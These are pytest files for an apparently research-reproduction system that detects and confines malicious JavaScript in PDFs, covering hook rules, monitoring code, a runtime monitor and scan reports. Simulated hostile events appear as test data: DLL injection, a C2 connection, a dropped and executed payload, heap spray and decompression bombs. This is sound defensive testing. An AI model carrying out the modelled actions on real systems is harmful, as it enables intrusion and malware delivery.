        process = System().spawn_reader()
        for api in API.PROCESS_CREATE:
            decision = table[api](process, event(api, image="C:\\evil.exe"))
            assert decision is HookAction.REJECT

    def test_whitelisted_process_creation_passes(self):
        table = rules()
        process = System().spawn_reader()
        decision = table[API.NT_CREATE_USER_PROCESS](
            process, event(API.NT_CREATE_USER_PROCESS, image="C:\\bin\\WerFault.exe")
        )
        assert decision is HookAction.PASS

    def test_dll_injection_always_rejected(self):
        table = rules()
        process = System().spawn_reader()
        decision = table[API.CREATE_REMOTE_THREAD](
            process, event(API.CREATE_REMOTE_THREAD, dll="WerFault.exe", target_pid=2)
        )
        assert decision is HookAction.REJECT

    def test_every_hooked_api_has_a_rule(self):
        table = rules()
        for api in API.ALL_HOOKED:
            assert api in table


class TestEndToEndConfinement:
    def test_gateway_respects_rejection(self):
        from repro.winapi.hooks import IATHookLayer
        from repro.winapi.syscalls import SyscallGateway

        system = System()
        reader = system.spawn_reader()
        gateway = SyscallGateway(system)
        reader.iat_hooks = IATHookLayer(reader, None, rules=rules())
        victim = system.spawn("explorer.exe")
        result = gateway.invoke(
            reader, API.CREATE_REMOTE_THREAD, target_pid=victim.pid, dll="evil.dll"
        )
        assert result.rejected_by_hook
        assert not victim.has_module("evil.dll")

    def test_direct_child_never_spawns_unsandboxed(self):
        from repro.winapi.hooks import IATHookLayer
        from repro.winapi.syscalls import SyscallGateway

        system = System()
        reader = system.spawn_reader()
        gateway = SyscallGateway(system)
        reader.iat_hooks = IATHookLayer(reader, None, rules=rules())
        result = gateway.invoke(reader, API.NT_CREATE_USER_PROCESS, image="mal.exe")
        assert result.rejected_by_hook
        assert not any(
            p.name == "mal.exe" and not p.sandboxed for p in system.processes.values()
        )
