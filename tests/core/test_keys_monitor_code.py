"""Unit tests for key management and monitoring-code generation."""

import pytest

from repro.core.keys import InstrumentationKey, KeyStore, fingerprint
from repro.core.monitor_code import (
    ENCRYPTION_SCHEMES,
    GeneratedMonitorCode,
    MonitorCodeGenerator,
    decrypt_script,
    encrypt_script,
    js_string_literal,
)
from repro.js import evaluate
from repro.js.interpreter import Interpreter
from repro.js.values import JSObject, NativeFunction, UNDEFINED


class TestKeyStore:
    def test_issue_and_validate(self):
        store = KeyStore.create(seed=1)
        key = store.issue("a.pdf", fingerprint(b"aaa"))
        assert store.validate(key.render()) == "a.pdf"

    def test_detector_id_shared_across_documents(self):
        store = KeyStore.create(seed=1)
        k1 = store.issue("a.pdf", fingerprint(b"a"))
        k2 = store.issue("b.pdf", fingerprint(b"b"))
        assert k1.detector_id == k2.detector_id
        assert k1.document_key != k2.document_key

    def test_duplicate_instrumentation_reuses_key(self):
        store = KeyStore.create(seed=1)
        k1 = store.issue("a.pdf", fingerprint(b"same-bytes"))
        k2 = store.issue("a.pdf", fingerprint(b"same-bytes"))
        assert k1 == k2
        assert len(store) == 1

    def test_foreign_detector_id_rejected(self):
        ours = KeyStore.create(seed=1)
        theirs = KeyStore.create(seed=2)
        foreign = theirs.issue("x.pdf", fingerprint(b"x"))
        assert ours.validate(foreign.render()) is None

    def test_malformed_key_rejected(self):
        store = KeyStore.create(seed=1)
        assert store.validate("no-separator") is None
        assert store.validate("a:b:c") is None
        assert store.validate(":") is None

    def test_forget(self):
        store = KeyStore.create(seed=1)
        key = store.issue("a.pdf", fingerprint(b"a"))
        store.forget(key.render())
        assert store.validate(key.render()) is None
        # Re-issuing after forget mints a fresh key.
        key2 = store.issue("a.pdf", fingerprint(b"a"))
        assert key2.document_key != key.document_key

    def test_parse_roundtrip(self):
        key = InstrumentationKey("aa", "bb")
        assert InstrumentationKey.parse(key.render()) == key

    def test_keys_are_random_looking(self):
        store = KeyStore.create(seed=1)
        key = store.issue("a.pdf", fingerprint(b"a"))
        assert len(key.document_key) == 24
        assert all(c in "0123456789abcdef" for c in key.document_key)


class TestScriptEncryption:
    @pytest.mark.parametrize("scheme", ENCRYPTION_SCHEMES)
    def test_python_roundtrip(self, scheme):
        code = "var tricky = 'quotes\\'s' + \"\\n\" + String.fromCharCode(0x9090);"
        encrypted = encrypt_script(code, scheme, 321)
        assert encrypted.ciphertext != code
        assert decrypt_script(encrypted) == code

    def test_unknown_scheme_raises(self):
        with pytest.raises(ValueError):
            encrypt_script("x", "rot13", 1)

    def test_js_string_literal_roundtrip_through_engine(self):
        text = "line1\nline2\t\"quoted\" and 'single' \\ 邐"
        assert evaluate(js_string_literal(text)) == text


def run_wrapped(generated: GeneratedMonitorCode, soap_log=None):
    """Execute monitoring code in a minimal Acrobat-like environment."""
    log = soap_log if soap_log is not None else []
    interp = Interpreter()

    def soap_request(i, t, args):
        params = args[0]
        log.append(
            {
                "url": params.get("cURL"),
                "request": {
                    k: v for k, v in params.get("oRequest").properties.items()
                },
            }
        )
        return JSObject({"status": "ok"})

    soap = JSObject()
    soap.set("request", NativeFunction("request", soap_request))
    interp.define_global("SOAP", soap)
    app = JSObject()
    app.set("setTimeOut", NativeFunction("setTimeOut", lambda i, t, a: 1.0))
    app.set("setInterval", NativeFunction("setInterval", lambda i, t, a: 2.0))
    interp.define_global("app", app)
    doc = JSObject()
    for m in ("addScript", "setAction", "setPageAction"):
        doc.set(m, NativeFunction(m, lambda i, t, a: UNDEFINED))
    bookmark = JSObject()
    bookmark.set("setAction", NativeFunction("setAction", lambda i, t, a: UNDEFINED))
    doc.set("bookmarkRoot", bookmark)
    interp.global_this = doc
    interp.define_global("this", doc)
    interp.run(generated.code, this=doc)
    return interp, log


class TestMonitorCodeGeneration:
    def test_enter_leave_bracketing(self):
        generator = MonitorCodeGenerator("det:doc", seed=9)
        generated = generator.wrap_script("var x = 40 + 2;")
        log = []
        interp, log = run_wrapped(generated, log)
        contexts = [entry["request"]["ctx"] for entry in log]
        assert contexts == ["enter", "leave"]
        keys = {entry["request"]["key"] for entry in log}
        assert keys == {"det:doc"}

    def test_original_code_actually_runs(self):
        generator = MonitorCodeGenerator("det:doc", seed=9)
        generated = generator.wrap_script("var marker = 'ran';")
        interp, _log = run_wrapped(generated)
        assert interp.global_env.lookup("marker") == "ran"

    def test_epilogue_sent_even_when_script_throws(self):
        generator = MonitorCodeGenerator("det:doc", seed=9)
        generated = generator.wrap_script("throw 'boom';")
        log = []
        with pytest.raises(Exception):
            run_wrapped(generated, log)
        contexts = [entry["request"]["ctx"] for entry in log]
        assert contexts == ["enter", "leave"]

    def test_payload_is_encrypted_in_document(self):
        generator = MonitorCodeGenerator("det:doc", seed=9)
        secret = "var veryUniqueMarker9123 = 1;"
        generated = generator.wrap_script(secret)
        assert secret not in generated.code

    def test_randomized_identifiers_differ_between_documents(self):
        a = MonitorCodeGenerator("det:a", seed=1).wrap_script("var x = 1;")
        b = MonitorCodeGenerator("det:b", seed=2).wrap_script("var x = 1;")
        assert a.code != b.code

    def test_fake_keys_planted(self):
        generated = MonitorCodeGenerator("det:doc", seed=9, fake_copies=3).wrap_script(
            "var x = 1;"
        )
        assert len(generated.fake_keys) == 3
        for fake in generated.fake_keys:
            assert fake in generated.code
            assert fake != "det:doc"

    def test_dynamic_wrappers_can_be_disabled(self):
        generated = MonitorCodeGenerator(
            "det:doc", seed=9, wrap_dynamic_methods=False
        ).wrap_script("var x = 1;")
        assert "setTimeOut" not in generated.code

    def test_set_timeout_wrapper_wraps_code(self):
        generator = MonitorCodeGenerator("det:doc", seed=9)
        generated = generator.wrap_script(
            "app.setTimeOut('var late = 1;', 100);"
        )
        captured = {}

        log = []
        interp = Interpreter()

        def soap_request(i, t, args):
            params = args[0]
            log.append(params.get("oRequest").properties.get("ctx"))
            return JSObject({"status": "ok"})

        soap = JSObject()
        soap.set("request", NativeFunction("request", soap_request))
        interp.define_global("SOAP", soap)
        app = JSObject()

        def set_time_out(i, t, args):
            captured["code"] = args[0]
            return 1.0

        app.set("setTimeOut", NativeFunction("setTimeOut", set_time_out))
        app.set("setInterval", NativeFunction("setInterval", lambda i, t, a: 2.0))
        interp.define_global("app", app)
        doc = JSObject()
        interp.global_this = doc
        interp.define_global("this", doc)
        interp.run(generated.code, this=doc)

        wrapped_code = captured["code"]
        assert "var late = 1;" in wrapped_code
        assert wrapped_code.index("enter") < wrapped_code.index("var late")
        assert "leave" in wrapped_code

    @pytest.mark.parametrize("scheme", ENCRYPTION_SCHEMES)
    def test_all_schemes_execute_in_engine(self, scheme, monkeypatch):
        generator = MonitorCodeGenerator("det:doc", seed=9)
        monkeypatch.setattr(generator.rng, "choice", lambda seq: scheme if scheme in seq else seq[0])
        generated = generator.wrap_script("var out = 6 * 7;")
        assert generated.scheme == scheme
        interp, _log = run_wrapped(generated)
        assert interp.global_env.lookup("out") == 42.0
