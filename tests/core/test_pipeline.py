"""Integration tests for the end-to-end protection pipeline."""

import pytest

from repro.core.deinstrument import DeinstrumentationPolicy
from repro.core.pipeline import ProtectionPipeline
from repro.pdf.builder import DocumentBuilder
from repro.pdf.document import PDFDocument


@pytest.fixture()
def pipe():
    return ProtectionPipeline(seed=77)


class TestProtect:
    def test_protect_returns_instrumented_bytes(self, pipe, js_doc_bytes):
        protected = pipe.protect(js_doc_bytes, "doc.pdf")
        assert protected.data != js_doc_bytes
        assert protected.key_text
        assert protected.has_javascript

    def test_protect_no_js_passthrough(self, pipe, simple_doc_bytes):
        protected = pipe.protect(simple_doc_bytes, "plain.pdf")
        assert protected.data == simple_doc_bytes


class TestOpenProtected:
    def test_benign_stays_benign(self, pipe, js_doc_bytes):
        report = pipe.scan(js_doc_bytes, "benign.pdf")
        assert not report.verdict.malicious
        assert not report.crashed
        assert report.fake_messages == 0

    def test_malicious_detected_and_confined(self, pipe, malicious_doc_bytes):
        report = pipe.scan(malicious_doc_bytes, "mal.pdf")
        assert report.verdict.malicious
        assert report.alerts
        assert report.quarantined_files

    def test_verdict_reports_fired_features(self, pipe, malicious_doc_bytes):
        report = pipe.scan(malicious_doc_bytes, "mal.pdf")
        fired = report.verdict.features.fired()
        assert 8 in fired  # memory consumption
        assert 11 in fired  # malware dropping

    def test_monitoring_transparent_to_benign_behavior(self, pipe):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("app.alert('v' + (1 + 1));")
        protected = pipe.protect(builder.to_bytes(), "alerts.pdf")
        session = pipe.session()
        report = session.open(protected)
        assert report.outcome.handle.alerts == ["v2"]
        session.close()

    def test_did_nothing_flag(self, pipe):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("var z = this.missingApi.probe;")
        report = pipe.scan(builder.to_bytes(), "inert.pdf")
        assert report.did_nothing
        assert not report.verdict.malicious

    def test_multiple_documents_one_session(self, pipe, js_doc_bytes, malicious_doc_bytes):
        session = pipe.session()
        benign = pipe.protect(js_doc_bytes, "b.pdf")
        mal = pipe.protect(malicious_doc_bytes, "m.pdf")
        report_benign = session.open(benign, fire_close=False)
        report_mal = session.open(mal, fire_close=False)
        assert not report_benign.verdict.malicious
        assert report_mal.verdict.malicious
        # context attribution: the benign doc stays clean afterwards
        assert not session.verdict_for(benign).malicious
        session.close()


class TestDeinstrumentationFlow:
    def test_benign_open_triggers_deinstrumentation(self, pipe, js_doc_bytes):
        protected = pipe.protect(js_doc_bytes, "clean.pdf")
        report = pipe.open_protected(protected)
        restored = pipe.maybe_deinstrument(protected, report)
        assert restored is not None
        doc = PDFDocument.from_bytes(restored)
        (action,) = list(doc.iter_javascript_actions())
        assert "SOAP.request" not in doc.get_javascript_code(action)

    def test_malicious_never_deinstrumented(self, pipe, malicious_doc_bytes):
        protected = pipe.protect(malicious_doc_bytes, "mal.pdf")
        report = pipe.open_protected(protected)
        assert pipe.maybe_deinstrument(protected, report) is None

    def test_policy_delays_deinstrumentation(self, js_doc_bytes):
        pipe = ProtectionPipeline(
            seed=77, deinstrument_policy=DeinstrumentationPolicy(opens_before=2)
        )
        protected = pipe.protect(js_doc_bytes, "slow.pdf")
        report = pipe.open_protected(protected)
        assert pipe.maybe_deinstrument(protected, report) is None
        report2 = pipe.open_protected(protected)
        assert pipe.maybe_deinstrument(protected, report2) is not None


class TestReportSerialization:
    def test_to_dict_benign(self, pipe, js_doc_bytes):
        import json

        payload = pipe.scan(js_doc_bytes, "doc.pdf").to_dict()
        json.dumps(payload)  # must be JSON-serialisable
        assert payload["malicious"] is False
        assert payload["document"] == "doc.pdf"

    def test_to_dict_malicious_carries_evidence(self, pipe, malicious_doc_bytes):
        payload = pipe.scan(malicious_doc_bytes, "mal.pdf").to_dict()
        assert payload["malicious"] is True
        assert payload["alerts"]
        assert payload["alerts"][0]["confinement"]
        assert 8 in payload["features"]


class TestModuleLevelHelpers:
    def test_default_pipeline_roundtrip(self, js_doc_bytes):
        from repro import open_protected, protect

        report = open_protected(protect(js_doc_bytes, "x.pdf"))
        assert not report.verdict.malicious
