"""`ProtectionPipeline.scan` must survive malformed/truncated input.

The front-end runs on untrusted downloads; raw parser exceptions must
come back as a structured ``errored`` report, never escape ``scan``
(ISSUE 2 satellite fix).
"""

import json

import pytest

from repro.core.pipeline import OpenReport, ProtectionPipeline
from repro.obs import MemorySink, Observability


@pytest.fixture()
def obs_pipeline():
    obs = Observability(MemorySink())
    return ProtectionPipeline(seed=11, obs=obs), obs


class TestErroredScan:
    def test_garbage_bytes_do_not_raise(self, pipeline):
        report = pipeline.scan(b"\x00\x01garbage, definitely not a pdf", "junk.pdf")
        assert report.errored
        assert report.error is not None and "PDFParseError" in report.error
        assert not report.verdict.malicious
        assert report.verdict.document == "junk.pdf"

    def test_truncated_pdf_do_not_raise(self, pipeline, js_doc_bytes):
        report = pipeline.scan(js_doc_bytes[: len(js_doc_bytes) // 8], "cut.pdf")
        assert isinstance(report, OpenReport)
        # either parses enough to scan, or errors cleanly — never raises
        if report.errored:
            assert report.error

    def test_empty_bytes(self, pipeline):
        report = pipeline.scan(b"", "empty.pdf")
        assert report.errored

    def test_errored_report_shape(self, pipeline):
        report = pipeline.scan(b"nope", "junk.pdf")
        assert report.protected is None
        assert report.outcome is None
        assert not report.crashed
        assert not report.did_nothing
        assert report.alerts == []
        payload = json.loads(json.dumps(report.to_dict()))
        assert payload["errored"] is True
        assert payload["document"] == "junk.pdf"
        assert payload["key"] is None
        assert payload["crash_reason"] is None

    def test_valid_document_not_errored(self, pipeline, js_doc_bytes):
        report = pipeline.scan(js_doc_bytes, "ok.pdf")
        assert not report.errored
        assert report.error is None
        assert report.to_dict()["errored"] is False

    def test_error_metric_incremented(self, obs_pipeline):
        pipeline, obs = obs_pipeline
        pipeline.scan(b"garbage", "junk.pdf")
        assert obs.metrics.counter_value("scan_errors") == 1
        assert obs.metrics.counter_value("docs_scanned") == 1
        # no verdict counted for an errored scan
        assert obs.metrics.counter_value("verdicts", malicious=False) == 0

    def test_span_tagged_errored(self, obs_pipeline):
        pipeline, obs = obs_pipeline
        pipeline.scan(b"garbage", "junk.pdf")
        (span,) = obs.sink.spans_named("pipeline.scan")
        assert span["tags"].get("errored") is True
