"""Unit tests for the runtime monitor + SOAP server (Phase II back-end)."""


from repro.core.keys import KeyStore, fingerprint
from repro.core.runtime_monitor import RuntimeMonitor
from repro.core.soap import TinySOAPServer
from repro.core.static_features import StaticFeatures
from repro.winapi.process import System
from repro.winapi.syscalls import API, SyscallEvent


def make_monitor(seed=7):
    key_store = KeyStore.create(seed)
    system = System()
    monitor = RuntimeMonitor(key_store, system)
    reader = system.spawn_reader()
    monitor.attach_reader_process(reader)
    return key_store, system, monitor, reader


def make_event(api, pid, mem=0, **args):
    return SyscallEvent(api=api, args=args, pid=pid, seq=1, time=0.0,
                        memory_private_usage=mem)


def issue(key_store, monitor, name="doc.pdf", ratio=0.9):
    key = key_store.issue(name, fingerprint(name.encode()))
    static = StaticFeatures(ratio, False, False, 0, 1, True)
    monitor.register_document(key.render(), name, static)
    return key.render()


class TestContextTracking:
    def test_enter_leave_cycle(self):
        key_store, system, monitor, reader = make_monitor()
        key = issue(key_store, monitor)
        assert monitor.on_context_enter(key, 1, False)
        assert monitor.active_key == key
        monitor.on_context_leave(key, 1, False)
        assert monitor.active_key is None

    def test_invalid_key_enter_rejected_as_fake(self):
        key_store, system, monitor, reader = make_monitor()
        assert not monitor.on_context_enter("bogus:key", 1, False)
        assert monitor.fake_messages

    def test_unmatched_leave_is_fake(self):
        key_store, system, monitor, reader = make_monitor()
        key = issue(key_store, monitor)
        monitor.on_context_leave(key, 1, False)
        assert monitor.fake_messages

    def test_fake_message_blames_active_document(self):
        key_store, system, monitor, reader = make_monitor()
        key = issue(key_store, monitor)
        monitor.on_context_enter(key, 1, False)
        monitor.on_fake_message({"ctx": "leave", "key": "forged"})
        verdict = monitor.verdict_for(key)
        assert verdict.malicious
        assert monitor.alerts

    def test_fake_without_context_recorded_only(self):
        key_store, system, monitor, reader = make_monitor()
        monitor.on_fake_message({"ctx": "enter", "key": "x"})
        assert monitor.fake_messages
        assert not monitor.alerts


class TestInJsAttribution:
    def test_drop_attributed_to_active_doc(self):
        key_store, system, monitor, reader = make_monitor()
        key = issue(key_store, monitor)
        monitor.on_context_enter(key, 1, False)
        monitor.handle_syscall(
            make_event(API.NT_CREATE_FILE, reader.pid, path="C:\\mal.exe")
        )
        state = monitor.states[key]
        assert 11 in state.fired
        assert state.activated

    def test_memory_checked_at_in_js_event(self):
        key_store, system, monitor, reader = make_monitor()
        key = issue(key_store, monitor)
        monitor.on_context_enter(key, 1, False)
        spike = reader.memory_counters().private_usage + 200 * 1024 * 1024
        monitor.handle_syscall(
            make_event(API.CONNECT, reader.pid, mem=spike, host="evil", port=80)
        )
        assert 8 in monitor.states[key].fired

    def test_memory_checked_at_context_exit(self):
        key_store, system, monitor, reader = make_monitor()
        key = issue(key_store, monitor)
        monitor.on_context_enter(key, 1, False)
        reader.alloc("spray", 300 * 1024 * 1024)
        monitor.on_context_leave(key, 1, False)
        assert 8 in monitor.states[key].fired

    def test_small_memory_delta_ignored(self):
        key_store, system, monitor, reader = make_monitor()
        key = issue(key_store, monitor)
        monitor.on_context_enter(key, 1, False)
        reader.alloc("small", 5 * 1024 * 1024)
        monitor.on_context_leave(key, 1, False)
        assert 8 not in monitor.states[key].fired

    def test_detector_channel_whitelisted(self):
        from repro.core.monitor_code import SOAP_PORT

        key_store, system, monitor, reader = make_monitor()
        key = issue(key_store, monitor)
        monitor.on_context_enter(key, 1, False)
        monitor.handle_syscall(
            make_event(API.CONNECT, reader.pid, host="127.0.0.1", port=SOAP_PORT)
        )
        assert 9 not in monitor.states[key].fired

    def test_external_connect_counts(self):
        key_store, system, monitor, reader = make_monitor()
        key = issue(key_store, monitor)
        monitor.on_context_enter(key, 1, False)
        monitor.handle_syscall(
            make_event(API.CONNECT, reader.pid, host="c2.evil", port=443)
        )
        assert 9 in monitor.states[key].fired


class TestOutJsAttribution:
    def activated_doc(self, key_store, monitor, reader, name="a.pdf"):
        key = issue(key_store, monitor, name)
        monitor.on_context_enter(key, 1, False)
        monitor.handle_syscall(
            make_event(API.NT_CREATE_FILE, reader.pid, path="C:\\d.exe")
        )
        monitor.on_context_leave(key, 1, False)
        return key

    def test_out_js_process_creation_applies_to_activated(self):
        key_store, system, monitor, reader = make_monitor()
        key = self.activated_doc(key_store, monitor, reader)
        monitor.handle_syscall(
            make_event(API.NT_CREATE_USER_PROCESS, reader.pid, image="C:\\d.exe")
        )
        assert 6 in monitor.states[key].fired

    def test_out_js_ignored_before_any_activation(self):
        key_store, system, monitor, reader = make_monitor()
        issue(key_store, monitor)
        before = monitor.ignored_events
        monitor.handle_syscall(
            make_event(API.NT_CREATE_USER_PROCESS, reader.pid, image="x.exe")
        )
        assert monitor.ignored_events > before
        assert not monitor.alerts

    def test_out_js_whitelisted_program_skipped(self):
        key_store, system, monitor, reader = make_monitor()
        key = self.activated_doc(key_store, monitor, reader)
        monitor.handle_syscall(
            make_event(API.NT_CREATE_USER_PROCESS, reader.pid, image="WerFault.exe")
        )
        assert 6 not in monitor.states[key].fired

    def test_out_js_network_not_a_feature(self):
        key_store, system, monitor, reader = make_monitor()
        key = self.activated_doc(key_store, monitor, reader)
        monitor.handle_syscall(make_event(API.CONNECT, reader.pid, host="e", port=1))
        fired = monitor.states[key].fired
        assert 9 not in fired and 6 not in fired

    def test_out_js_applies_to_every_activated_doc(self):
        key_store, system, monitor, reader = make_monitor()
        key_a = self.activated_doc(key_store, monitor, reader, "a.pdf")
        key_b = self.activated_doc(key_store, monitor, reader, "b.pdf")
        monitor.handle_syscall(
            make_event(API.CREATE_REMOTE_THREAD, reader.pid, dll="x.dll", target_pid=1)
        )
        assert 7 in monitor.states[key_a].fired
        assert 7 in monitor.states[key_b].fired


class TestCollusion:
    def test_cross_document_executable_tracking(self):
        key_store, system, monitor, reader = make_monitor()
        downloader = issue(key_store, monitor, "downloader.pdf")
        executor = issue(key_store, monitor, "executor.pdf", ratio=0.0)

        monitor.on_context_enter(downloader, 1, False)
        monitor.handle_syscall(
            make_event(API.URL_DOWNLOAD_TO_FILE, reader.pid, path="C:\\stage2.exe")
        )
        monitor.on_context_leave(downloader, 1, False)

        monitor.on_context_enter(executor, 1, False)
        monitor.handle_syscall(
            make_event(API.NT_CREATE_USER_PROCESS, reader.pid, image="C:\\stage2.exe")
        )
        monitor.on_context_leave(executor, 1, False)

        # executor: prepended malware-drop (F11) + its own process (F12)
        assert {11, 12} <= monitor.states[executor].fired
        # downloader: appended execution (F12) on top of its drop (F11)
        assert {11, 12} <= monitor.states[downloader].fired
        assert monitor.verdict_for(downloader).malicious
        assert monitor.verdict_for(executor).malicious

    def test_executable_list_survives_reader_close(self):
        key_store, system, monitor, reader = make_monitor()
        key = issue(key_store, monitor)
        monitor.on_context_enter(key, 1, False)
        monitor.handle_syscall(
            make_event(API.NT_CREATE_FILE, reader.pid, path="C:\\keep.exe")
        )
        monitor.on_context_leave(key, 1, False)
        monitor.on_reader_closed()
        assert not monitor.states  # malscore is volatile
        assert "c:\\keep.exe" in monitor.downloaded_executables


class TestConfinementIntegration:
    def test_alert_quarantines_dropped_files(self):
        key_store, system, monitor, reader = make_monitor()
        key = issue(key_store, monitor)
        system.filesystem.create("C:\\mal.exe", b"MZ", creator_pid=reader.pid)
        monitor.on_context_enter(key, 1, False)
        monitor.handle_syscall(
            make_event(API.NT_CREATE_FILE, reader.pid, path="C:\\mal.exe")
        )
        monitor.handle_syscall(
            make_event(API.NT_CREATE_USER_PROCESS, reader.pid, image="C:\\mal.exe")
        )
        monitor.on_context_leave(key, 1, False)
        assert monitor.alerts
        assert system.filesystem.get("C:\\mal.exe").quarantined

    def test_process_creation_sandboxed(self):
        key_store, system, monitor, reader = make_monitor()
        key = issue(key_store, monitor)
        monitor.on_context_enter(key, 1, False)
        monitor.handle_syscall(
            make_event(API.NT_CREATE_USER_PROCESS, reader.pid, image="C:\\p.exe")
        )
        sandboxed = [p for p in system.processes.values() if p.sandboxed]
        assert sandboxed
        # alert fired (ratio static + drop-free but F12+F8? just F12+static=10)
        # the sandboxed child must be terminated on alert
        monitor.on_context_leave(key, 1, False)
        if monitor.alerts:
            assert all(not p.alive for p in sandboxed)


class TestSoapServer:
    def test_valid_messages_dispatch(self):
        key_store, system, monitor, reader = make_monitor()
        key = issue(key_store, monitor)
        server = TinySOAPServer(monitor)
        assert server.handle({"ctx": "enter", "key": key, "seq": 1}) == {"status": "ok"}
        assert server.handle({"ctx": "leave", "key": key, "seq": 1}) == {"status": "ok"}
        assert server.stats.enters == 1 and server.stats.leaves == 1

    def test_malformed_payload_is_fake(self):
        key_store, system, monitor, reader = make_monitor()
        server = TinySOAPServer(monitor)
        assert server.handle("garbage")["status"] == "rejected"
        assert server.handle({"ctx": "launch"})["status"] == "rejected"
        assert server.stats.fakes == 2

    def test_invalid_key_rejected(self):
        key_store, system, monitor, reader = make_monitor()
        server = TinySOAPServer(monitor)
        response = server.handle({"ctx": "enter", "key": "wrong:key", "seq": 1})
        assert response["status"] == "rejected"

    def test_registration_on_network(self):
        key_store, system, monitor, reader = make_monitor()
        key = issue(key_store, monitor)
        server = TinySOAPServer(monitor)
        server.register(system.network)
        response = system.network.call_rpc(
            server.host, server.port, {"ctx": "enter", "key": key, "seq": 1}
        )
        assert response == {"status": "ok"}

    def test_bad_seq_type_is_fake(self):
        key_store, system, monitor, reader = make_monitor()
        server = TinySOAPServer(monitor)
        response = server.handle({"ctx": "enter", "key": "a:b", "seq": {}})
        assert response["status"] == "rejected"
