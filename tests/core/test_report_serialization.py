"""OpenReport.to_dict() must stay JSON-serialisable for every outcome
class the pipeline can produce (the CLI and log sinks rely on it)."""

import json

import pytest

from repro.core.pipeline import ProtectionPipeline
from repro.pdf.builder import DocumentBuilder

from tests.conftest import spray_js


@pytest.fixture(scope="module")
def pipe():
    return ProtectionPipeline(seed=20140)


def doc_with(code: str) -> bytes:
    builder = DocumentBuilder()
    builder.add_page("")
    builder.add_javascript(code)
    return builder.to_bytes()


def roundtrip(report):
    payload = json.loads(json.dumps(report.to_dict()))
    assert payload["document"]
    assert isinstance(payload["malscore"], (int, float))
    return payload


class TestToDictRoundTrip:
    def test_malicious_report(self, pipe):
        report = pipe.scan(doc_with(spray_js()), "mal.pdf")
        assert report.verdict.malicious
        payload = roundtrip(report)
        assert payload["malicious"] is True
        assert payload["features"]  # fired feature indices
        assert len(payload["feature_names"]) == len(payload["features"])
        assert payload["alerts"], "a conviction must serialise its alerts"
        for alert in payload["alerts"]:
            assert alert["document"] == "mal.pdf"
            assert isinstance(alert["confinement"], list)

    def test_inert_report(self, pipe):
        report = pipe.scan(doc_with("app.alert('hi');"), "inert.pdf")
        assert report.did_nothing
        payload = roundtrip(report)
        assert payload["malicious"] is False
        assert payload["inert"] is True
        assert payload["crashed"] is False
        assert payload["alerts"] == []

    def test_crashed_report(self, pipe):
        # 8 MB of spray misses the hijack target: the reader crashes.
        report = pipe.scan(doc_with(spray_js(spray_mb=8)), "crash.pdf")
        assert report.crashed
        payload = roundtrip(report)
        assert payload["crashed"] is True
        assert isinstance(payload["crash_reason"], str)
        assert payload["inert"] is False

    def test_quarantine_list_serialises(self, pipe):
        report = pipe.scan(doc_with(spray_js()), "drop.pdf")
        payload = roundtrip(report)
        assert all(isinstance(path, str) for path in payload["quarantined"])
