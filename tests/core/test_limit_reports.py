"""Pipeline-level hostile-input tests: every bomb in the malformed
corpus must come back as a structured, budget-attributed errored
report — never a hang, OOM or bare traceback."""

from __future__ import annotations

import time

import pytest

from repro.core.pipeline import OpenReport, ProtectionPipeline
from repro.limits import ResourceLimitExceeded, ScanLimits
from repro.obs import MemorySink, Observability
from tests.data import malformed

#: Budgets tight enough that every corpus bomb trips within seconds.
TIGHT = ScanLimits(
    max_stream_bytes=256 * 1024,
    max_document_bytes=1024 * 1024,
    max_filter_depth=8,
    max_objects=2000,
    deadline_seconds=10.0,
)


@pytest.fixture()
def pipeline_tight():
    return ProtectionPipeline(limits=TIGHT)


class TestBombReports:
    @pytest.mark.parametrize(
        "builder, expected_kinds",
        [
            ("decompression_bomb", {"stream-bytes", "document-bytes"}),
            ("filter_cascade_bomb", {"filter-depth"}),
            ("cyclic_reference", {"ref-hops"}),
            ("deep_page_tree", {"nesting-depth"}),
            ("object_flood", {"object-count"}),
        ],
    )
    def test_bomb_yields_attributed_errored_report(
        self, pipeline_tight, builder, expected_kinds
    ):
        data = malformed.BUILDERS[builder]()
        start = time.monotonic()
        report = pipeline_tight.scan(data, f"{builder}.pdf")
        elapsed = time.monotonic() - start
        assert report.errored
        assert report.limit_kind in expected_kinds
        assert not report.verdict.malicious
        # evidence names the blown budget
        assert any("resource limit" in r for r in report.verdict.reasons)
        assert report.limit_kind in report.verdict.reasons[0]
        # within the configured deadline (plus slack for slow machines)
        assert elapsed < TIGHT.deadline_seconds + 5

    def test_huge_xref_is_clamped_not_errored(self, pipeline_tight):
        report = pipeline_tight.scan(
            malformed.huge_xref_count(50_000_000), "huge-xref.pdf"
        )
        # The clamp satellite: the claimed count is a lie about the
        # file, not real work — the scan completes normally.
        assert not report.errored

    def test_truncated_stream_scans(self, pipeline_tight):
        report = pipeline_tight.scan(
            malformed.truncated_stream(), "truncated.pdf"
        )
        assert not report.errored

    def test_benign_doc_unaffected_by_tight_limits(
        self, pipeline_tight, simple_doc_bytes
    ):
        report = pipeline_tight.scan(simple_doc_bytes, "benign.pdf")
        assert not report.errored
        assert not report.verdict.malicious
        assert report.limit_kind is None

    def test_deadline_aborts_hung_parse(self):
        pipeline = ProtectionPipeline(
            limits=ScanLimits(deadline_seconds=0.0)
        )
        report = pipeline.scan(
            malformed.decompression_bomb(512 * 1024), "deadline.pdf"
        )
        assert report.errored
        # any budget may fire first under a zero deadline, but the
        # deadline must be among the possibilities and nothing hangs
        assert report.limit_kind is not None


class TestLimitReportShape:
    def test_limit_report_to_dict(self):
        exc = ResourceLimitExceeded("stream-bytes", 1024, "inflated")
        report = OpenReport.limit_report("doc.pdf", exc)
        payload = report.to_dict()
        assert payload["errored"] is True
        assert payload["limit_kind"] == "stream-bytes"
        assert "stream-bytes" in payload["reasons"][0]

    def test_obs_counter_emitted(self):
        obs = Observability(MemorySink())
        pipeline = ProtectionPipeline(limits=TIGHT, obs=obs)
        pipeline.scan(malformed.decompression_bomb(2 * 1024 * 1024), "bomb.pdf")
        rendered = obs.metrics.render()
        assert "limits_hit" in rendered
        assert "kind=stream-bytes" in rendered

    def test_render_report_limits_section(self, tmp_path):
        from repro.obs import JSONLSink
        from repro.obs.report import render_report

        trace = tmp_path / "trace.jsonl"
        obs = Observability(JSONLSink(trace))
        pipeline = ProtectionPipeline(limits=TIGHT, obs=obs)
        pipeline.scan(malformed.decompression_bomb(2 * 1024 * 1024), "bomb.pdf")
        obs.close()
        text = render_report(trace)
        assert "Resource limits hit" in text
        assert "stream-bytes" in text
